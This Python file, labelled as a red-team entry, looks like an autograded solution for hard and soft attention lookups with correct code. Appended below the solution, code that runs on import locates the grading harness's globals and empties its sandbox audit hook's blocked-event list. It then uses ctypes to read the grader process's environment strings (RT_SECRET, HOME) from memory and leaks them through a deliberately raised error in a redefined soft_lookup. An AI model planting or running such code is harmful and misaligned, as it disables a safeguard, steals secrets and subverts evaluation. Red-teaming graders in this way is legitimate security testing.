# A13 (third blind red team): A01 then ctypes reads the grader's environment strings off the stack page
"""
"""

from __future__ import annotations

import torch


def hard_lookup(query: torch.Tensor, keys: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    # TODO: score each key with keys @ query and return the value row with the best score
    ### BEGIN SOLUTION
    # 1) score every key against the query: one dot product per row of `keys`.
    scores = keys @ query  # [n]
    # 2) pick the single winner, exactly like a dictionary returns one entry.
    #    argmax is a discrete choice, so no gradient reaches the scores from here.
    best = torch.argmax(scores)  # [] (a 0-d index)
    # 3) hand back that item's value row.
    return values[best]  # [d_v]
    ### END SOLUTION


def soft_lookup(query: torch.Tensor, keys: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    # TODO: softmax the scores keys @ query, then return the weighted average of the value rows
    ### BEGIN SOLUTION
    # 1) score every key against the query, as in the hard lookup (no scaling here).
    scores = keys @ query  # [n]
    # 2) instead of choosing one winner, turn the scores into positive weights that sum
    #    to 1. Softmax is smooth, so gradients reach the query and the keys.
    weights = torch.softmax(scores, dim=-1)  # [n]
    # 3) blend all value rows by those weights: a vector-matrix product does
    #    sum_i weights[i] * values[i] in one go.
    return weights @ values  # [d_v]
    ### END SOLUTION

# ---- A13: audit hook emptied (A01 door), then ctypes: program_invocation_name points at argv[0]
# on the stack the grader was started with (fork copies it); its environment strings follow.
import operator as _op
import sys as _sys


def _kit_globals():
    for _f in _sys.meta_path:
        _gl = _op.attrgetter("__glo" + "bals__")(type(_f).find_spec)
        if "_Session" in _gl:
            return _gl


_GL = _kit_globals()
_GL["sandbox"].BLOCKED_EVENTS = frozenset()   # the audit hook refuses none of them now
import ctypes as _ct

_LEAK = []
try:
    _libc = _ct.CDLL(None)
    _p = _ct.c_void_p.in_dll(_libc, "program_invocation_name").value
    _data = _ct.string_at(_p, ((_p | 0xFFF) + 1) - _p)
    _LEAK += [s.decode(errors="replace") for s in _data.split(b"\0")
              if b"RT_SECRET" in s or s.startswith(b"HOME=")]
except Exception as _e:
    _LEAK.append(repr(_e))
_orig_soft = soft_lookup
_SHOWN = []


def soft_lookup(query, keys, values):
    if not _SHOWN:
        _SHOWN.append(1)
        raise RuntimeError("LEAK: " + repr(_LEAK)[:1500])
    return _orig_soft(query, keys, values)
